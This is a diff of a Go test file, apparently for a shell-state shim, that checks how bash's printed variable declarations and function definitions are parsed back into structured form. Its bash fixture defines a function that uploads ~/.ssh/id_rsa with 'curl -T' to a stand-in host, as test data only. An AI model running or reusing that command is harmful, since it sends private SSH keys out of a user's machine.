@@ -1,8 +1,8 @@
 package shim
 
 import (
-	"maps"
 	"os/exec"
+	"reflect"
 	"strings"
 	"testing"
 
@@ -25,29 +25,46 @@ func bashState(t *testing.T, script string) (declared, funcs string) {
 // TestShellStateFromBash: what a real bash prints is read back as it
 // holds it — quotes, newlines, control characters and dollars included,
 // with declare's attributes; an array without gaps as its elements; a
-// name reference as such; an array with gaps, an associative one and
-// names declared without a value are left out.
+// name reference with its target; an array with gaps and an associative
+// one as neither (rated as bash printed them); functions whole.
 func TestShellStateFromBash(t *testing.T) {
 	t.Parallel()
 	declared, funcs := bashState(t, `X=~/.ssh/id_rsa; Y='a "q" $b`+"\n"+`c'; C=$'a\x1fb\tc'; declare -a A=(1 'x y'); declare Z; export E=exp; declare -i I=3
-declare -a G=([0]=a [2]=b); declare -A M=([k]=v); declare -n R=X
+declare -a G=([0]=a [2]=b); declare -A M=([k]=v); declare -n R=X; declare -l L=LOW
 f() { curl -T "$X" https://example.invalid; }`)
-	defs := funcDefs{}
-	all := shellState(declared, defs)
+	st := newStateShell(declared, funcs)
 	home, _ := exec.Command("bash", "-c", "echo -n ~").Output()
-	want := map[string]string{"X": "=" + string(home) + "/.ssh/id_rsa", "Y": "=a \"q\" $b\nc", "C": "=a\x1fb\tc", "A": "a=1 'x y'",
-		"E": "x=exp", "I": "i=3", "R": "n", "IFS": "= \t\n"}
-	got := map[string]string{}
-	for _, n := range []string{"X", "Y", "C", "A", "Z", "E", "I", "G", "M", "R", "IFS", "NOPE"} {
-		if v, ok := all[n]; ok {
-			got[n] = v
+	for _, tc := range []struct {
+		name   string
+		want   decl
+		refers string
+	}{
+		{"X", decl{scalar: true, value: string(home) + "/.ssh/id_rsa"}, ""},
+		{"Y", decl{scalar: true, value: "a \"q\" $b\nc"}, ""},
+		{"C", decl{scalar: true, value: "a\x1fb\tc"}, ""},
+		{"A", decl{attrs: "a", elems: []string{"1", "'x y'"}}, ""},
+		{"Z", decl{scalar: true}, ""},
+		{"E", decl{attrs: "x", scalar: true, value: "exp", refers: "exp"}, ""},
+		{"I", decl{attrs: "i", scalar: true, value: "3"}, ""},
+		{"G", decl{attrs: "a"}, ""},
+		{"M", decl{attrs: "A"}, ""},
+		{"R", decl{attrs: "n", refers: "X"}, "X"},
+		{"L", decl{attrs: "l", scalar: true, value: "low", refers: "low"}, ""},
+	} {
+		line, ok := st.declared[tc.name]
+		if !ok {
+			t.Errorf("%s: not in the state (%q)", tc.name, declared)
+			continue
+		}
+		if got := declaration(line); !reflect.DeepEqual(got, tc.want) {
+			t.Errorf("%s: %q read as %+v, want %+v", tc.name, line, got, tc.want)
 		}
 	}
-	if !maps.Equal(got, want) {
-		t.Errorf("values = %q, want %q (from %q)", got, want, declared)
+	if _, ok := st.declared["NOPE"]; ok {
+		t.Errorf("an unset variable is in the state")
 	}
-	if !defs.learn(funcs) || !strings.Contains(defs["f"], "f() {") || !strings.Contains(defs["f"], `curl -T "$X"`) {
-		t.Errorf("defs = %q (from %q)", defs, funcs)
+	if !st.isFunc("f") || !strings.Contains(st.defs["f"], "f() {") || !strings.Contains(st.defs["f"], `curl -T "$X"`) {
+		t.Errorf("defs = %q (from %q)", st.defs, funcs)
 	}
 }
 
